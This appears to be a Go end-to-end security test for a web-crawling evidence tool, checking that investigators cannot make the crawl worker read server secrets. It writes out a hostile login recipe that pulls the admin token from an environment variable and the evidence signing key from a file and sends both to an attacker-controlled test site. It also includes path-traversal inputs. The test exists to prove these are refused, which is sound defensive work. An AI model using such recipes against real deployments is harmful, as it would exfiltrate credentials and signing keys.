package e2e

import (
	"bytes"
	"compress/gzip"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"vigil"
)

// exfilSite is a site an investigator controls: it serves a login recipe
// as a page (so a crawl captures it raw under the data directory), a login
// form, and records every request it receives, bodies included.
type exfilSite struct {
	mu     sync.Mutex
	recipe string
	seen   [][]byte
}

func (s *exfilSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	dump, _ := httputil.DumpRequest(r, true)
	s.mu.Lock()
	s.seen = append(s.seen, dump)
	recipe := s.recipe
	s.mu.Unlock()
	switch r.URL.Path {
	case "/recipe.yaml":
		w.Header().Set("Content-Type", "text/plain")
		io.WriteString(w, recipe)
	case "/login":
		w.Header().Set("Content-Type", "text/html")
		if r.Method == http.MethodPost {
			io.WriteString(w, `<p>welcome</p><a href="/members">members</a>`)
			return
		}
		io.WriteString(w, `<form method="post" action="/login"><input name="token"><input type="password" name="key"></form>`)
	default:
		w.Header().Set("Content-Type", "text/html")
		http.SetCookie(w, &http.Cookie{Name: "track", Value: trackCookie, Path: "/", HttpOnly: true})
		io.WriteString(w, `<p>welcome</p><a href="/members">members</a>`)
	}
}

// trackCookie is the value of the cookie exfilSite's pages set: WARC
// evidence must not hold it.
const trackCookie = "track-cookie-value-5b1e"

// received returns every request the site saw, decoded (URL-encoded form
// bodies and queries unescaped) and raw.
func (s *exfilSite) received() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var b strings.Builder
	for _, d := range s.seen {
		b.Write(d)
		if dec, err := url.QueryUnescape(string(d)); err == nil {
			b.WriteString(dec)
		}
	}
	return b.String()
}

// randomSecret returns 43 random URL-safe characters.
func randomSecret(t *testing.T) string {
	t.Helper()
	var b [32]byte
	if _, err := rand.Read(b[:]); err != nil {
		t.Fatal(err)
	}
	return base64.RawURLEncoding.EncodeToString(b[:])
}

// crawlAs starts a crawl as the holder of token and returns the status and
// the decoded answer.
func crawlAs(t *testing.T, inst *instance, token, body string) (int, vigil.CrawlStatus, string) {
	t.Helper()
	code, raw := apiCall(t, "POST", inst.URL+"/api/crawls", token, "application/json", strings.NewReader(body))
	var st vigil.CrawlStatus
	if code == http.StatusCreated {
		json.Unmarshal(raw, &st)
	}
	return code, st, string(raw)
}

// waitCrawlAs polls a crawl as the holder of token until it has ended.
func waitCrawlAs(t *testing.T, inst *instance, token, id string) vigil.CrawlStatus {
	t.Helper()
	var st vigil.CrawlStatus
	waitFor(t, "crawl "+id+" ends", 3*time.Minute, func() bool {
		code, raw := apiCall(t, "GET", inst.URL+"/api/crawls/"+id, token, "", nil)
		st = vigil.CrawlStatus{}
		return code == 200 && json.Unmarshal(raw, &st) == nil && st.Done()
	})
	return st
}

// TestInvestigatorCannotMakeTheWorkerReadServerFiles is issue 21's finding
// 1 end to end. An investigator crawls a page of their own whose body is a
// login recipe naming the admin's VIGIL_TOKEN ({env:}) and the evidence
// signing key ({file:}); it lands raw under the data directory, at a path
// predictable from its document ID. A crawl request naming that capture as
// its login recipe or cookie file, by path or as a name with separators,
// is refused with a clear 400, and the site never receives either secret.
// An admin can store a recipe only when its credentials come from
// VIGIL_LOGIN_* variables or stored credentials: the same recipe is
// refused at upload. A stored recipe, named by an investigator's crawl,
// logs in, and the crawl's audit entry names the recipe and cookie file.
func TestInvestigatorCannotMakeTheWorkerReadServerFiles(t *testing.T) {
	t.Parallel()
	root := randomSecret(t)
	site := &exfilSite{}
	srv := httptest.NewServer(site)
	defer srv.Close()

	inst := startUpEnv(t, []string{"VIGIL_TOKEN=" + root, "VIGIL_LOGIN_SITE_PASS=site-pass-for-the-recipe"}, "--direct")
	inv := createToken(t, inst.Data, "investigator", "ivan")
	admin := createToken(t, inst.Data, "admin", "adam")
	keyPath := filepath.Join(inst.Data, "keys", "evidence.key")
	key, err := os.ReadFile(keyPath)
	if err != nil || len(key) == 0 {
		t.Fatalf("the evidence signing key: %v", err)
	}
	evil := fmt.Sprintf("url: %s/login\ncredentials:\n  token: {env: VIGIL_TOKEN}\n  key: {file: %s}\nsuccess: {text: welcome}\n", srv.URL, keyPath)
	site.mu.Lock()
	site.recipe = evil
	site.mu.Unlock()

	code, st, raw := crawlAs(t, inst, inv, `{"seeds":["`+srv.URL+`/recipe.yaml"],"max_pages":1,"max_depth":1,"case_id":"exfil"}`)
	if code != http.StatusCreated {
		t.Fatalf("crawl of the recipe page = %d: %s", code, raw)
	}
	waitCrawlAs(t, inst, inv, st.ID)
	id := vigil.DocumentID(st.ID, srv.URL+"/recipe.yaml")
	capture := filepath.Join(inst.Data, "index", "captures", id[:2], id)
	if b, err := os.ReadFile(capture); err != nil || !bytes.Contains(b, []byte("VIGIL_TOKEN")) {
		t.Fatalf("the recipe page is not captured at %s: %v", capture, err)
	}

	t.Run("a crawl naming a server file is refused with a clear 400", func(t *testing.T) {
		seed := `"seeds":["` + srv.URL + `/"],"case_id":"exfil"`
		for _, body := range []string{
			`{` + seed + `,"login_file":"` + capture + `"}`,
			`{` + seed + `,"cookie_file":"` + capture + `"}`,
			`{` + seed + `,"login":"` + capture + `"}`,
			`{` + seed + `,"login":"../index/captures/` + id[:2] + `/` + id + `"}`,
			`{` + seed + `,"cookies":"` + capture + `"}`,
		} {
			code, st, raw := crawlAs(t, inst, inv, body)
			if code == http.StatusCreated {
				waitCrawlAs(t, inst, inv, st.ID)
			}
			if code != http.StatusBadRequest || !strings.Contains(raw, "secret") && !strings.Contains(raw, "login") && !strings.Contains(raw, "cookie") {
				t.Errorf("crawl %s = %d %s; want 400 saying recipes and cookie files are named, not paths", body, code, raw)
			}
		}
		if code, _, raw := crawlAs(t, inst, inv, `{"seeds":["`+srv.URL+`/"],"case_id":"exfil","login":"no-such-recipe"}`); code != http.StatusBadRequest || !strings.Contains(raw, "no-such-recipe") {
			t.Errorf("a crawl naming an unknown recipe = %d %s; want 400 naming it", code, raw)
		}
	})

	t.Run("an admin cannot store a recipe that reads server secrets", func(t *testing.T) {
		code, raw := apiCall(t, "PUT", inst.URL+"/api/secrets/login/evil", admin, "application/octet-stream", strings.NewReader(evil))
		if code != http.StatusBadRequest || !bytes.Contains(raw, []byte("VIGIL_LOGIN_")) {
			t.Errorf("storing a recipe with {env: VIGIL_TOKEN} = %d %s; want 400 naming the VIGIL_LOGIN_ prefix", code, raw)
		}
		fileOnly := fmt.Sprintf("url: %s/login\ncredentials:\n  key: {file: ../keys/evidence.key}\nsuccess: {text: welcome}\n", srv.URL)
		if code, raw := apiCall(t, "PUT", inst.URL+"/api/secrets/login/evil", admin, "application/octet-stream", strings.NewReader(fileOnly)); code != http.StatusBadRequest {
			t.Errorf("storing a recipe with {file: ../keys/evidence.key} = %d %s; want 400", code, raw)
		}
		if code, raw := apiCall(t, "PUT", inst.URL+"/api/secrets/login/mine", inv, "application/octet-stream", strings.NewReader(evil)); code != http.StatusForbidden {
			t.Errorf("an investigator storing a recipe = %d %s; want 403", code, raw)
		}
	})

	t.Run("a stored recipe logs in and the crawl's audit entry names it", func(t *testing.T) {
		good := fmt.Sprintf("url: %s/login\ncredentials:\n  key: {env: VIGIL_LOGIN_SITE_PASS}\nsuccess: {text: welcome}\n", srv.URL)
		if code, raw := apiCall(t, "PUT", inst.URL+"/api/secrets/login/site", admin, "application/octet-stream", strings.NewReader(good)); code != http.StatusCreated {
			t.Fatalf("storing a good recipe = %d %s", code, raw)
		}
		code, st, raw := crawlAs(t, inst, inv, `{"seeds":["`+srv.URL+`/"],"case_id":"exfil","login":"site","max_pages":3}`)
		if code != http.StatusCreated {
			t.Fatalf("a crawl naming the stored recipe = %d %s", code, raw)
		}
		if end := waitCrawlAs(t, inst, inv, st.ID); end.State != vigil.CrawlFinished || end.Indexed == 0 {
			t.Fatalf("the crawl with the stored recipe ended %+v", end)
		}
		if !strings.Contains(site.received(), "site-pass-for-the-recipe") {
			t.Errorf("the site never received the stored recipe's credential: the login did not run")
		}
		code, audit := apiCall(t, "GET", inst.URL+"/api/audit?action=crawl.start&user=ivan&q=site", admin, "", nil)
		if code != 200 || !bytes.Contains(audit, []byte(`"login":"site"`)) {
			t.Errorf("the crawl.start audit entry does not name the login recipe: %d %s", code, audit)
		}
		code, audit = apiCall(t, "GET", inst.URL+"/api/audit?action=crawl.start&user=ivan", admin, "", nil)
		if code != 200 || !bytes.Contains(audit, []byte(`"cookies":`)) || !bytes.Contains(audit, []byte(`"login":`)) {
			t.Errorf("the refused crawls' audit entries do not name the cookie file and recipe asked for: %d %s", code, audit)
		}
	})

	t.Run("WARC evidence keeps Set-Cookie names, never values", func(t *testing.T) {
		var warcs, redacted int
		filepath.WalkDir(filepath.Join(inst.Data, "evidence"), func(p string, d fs.DirEntry, err error) error {
			if err != nil || !strings.HasSuffix(p, ".warc.gz") {
				return err
			}
			f, err := os.Open(p)
			if err != nil {
				return err
			}
			defer f.Close()
			zr, err := gzip.NewReader(f)
			if err != nil {
				return err
			}
			b, err := io.ReadAll(zr)
			if err != nil {
				return err
			}
			warcs++
			if bytes.Contains(b, []byte(trackCookie)) {
				t.Errorf("%s holds the value of a Set-Cookie", p)
			}
			redacted += bytes.Count(b, []byte("Set-Cookie: track=[redacted]; Path=/; HttpOnly"))
			return nil
		})
		if warcs == 0 || redacted == 0 {
			t.Fatalf("%d WARC files, %d redacted Set-Cookie headers; want the site's cookie archived redacted", warcs, redacted)
		}
	})

	got := site.received()
	if strings.Contains(got, root) {
		t.Errorf("the investigator's site received VIGIL_TOKEN")
	}
	for _, line := range strings.Split(strings.TrimSpace(string(key)), "\n") {
		if len(line) > 16 && strings.Contains(got, line) {
			t.Errorf("the investigator's site received the evidence signing key (%.20s…)", line)
		}
	}
}
